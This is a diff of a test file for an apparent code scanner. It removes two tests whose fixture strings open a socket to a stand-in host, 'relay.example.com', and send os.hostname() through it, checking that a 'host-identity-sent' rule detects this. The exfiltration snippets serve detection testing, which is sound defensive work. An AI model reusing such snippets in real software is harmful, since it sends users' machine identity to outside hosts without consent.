@@ -378,25 +378,6 @@ describe('engine: lists and tests as minifiers and bundlers write them', () => {
   });
 });
 
-describe('engine: values handed to a class by `new`', () => {
-  it("follows a constructor's parameter from the `new` that passes it: a socket kept in a field and written to", () => {
-    const code = 'const os = require("os"), net = require("net");\nclass W { constructor(s) { this.s = s; } send(m) { this.s.write(m); } }\nnew W(net.connect(443, "relay.example.com")).send(os.hostname());';
-    const f = scan(code).find((x) => x.ruleId === 'host-identity-sent');
-    assert.ok(f, 'the write to the socket the constructor was given is a request');
-    assert.deepStrictEqual(f.values, ['os.hostname()']);
-  });
-
-  it('through another module: `new m.W(x)` whose callee is the class', () => {
-    const code = [
-      'const os = require("os"), net = require("net");',
-      'const m = (() => { class Writer { constructor(sock) { this.sock = sock; } write(x) { this.sock.write(JSON.stringify(x)); } } return { Writer }; })();',
-      'const w = new m.Writer(net.connect(443, "relay.example.com"));',
-      'w.write({ name: `CLI on ${os.hostname()}` });',
-    ].join('\n');
-    assert.ok(scan(code).some((x) => x.ruleId === 'host-identity-sent'));
-  });
-});
-
 describe('engine: hostile lists', () => {
   it("reads another module's list that expands to a trillion elements without expanding it", () => {
     const refs = (name: string) => `[${Array(10_000).fill(name).join(',')}]`;
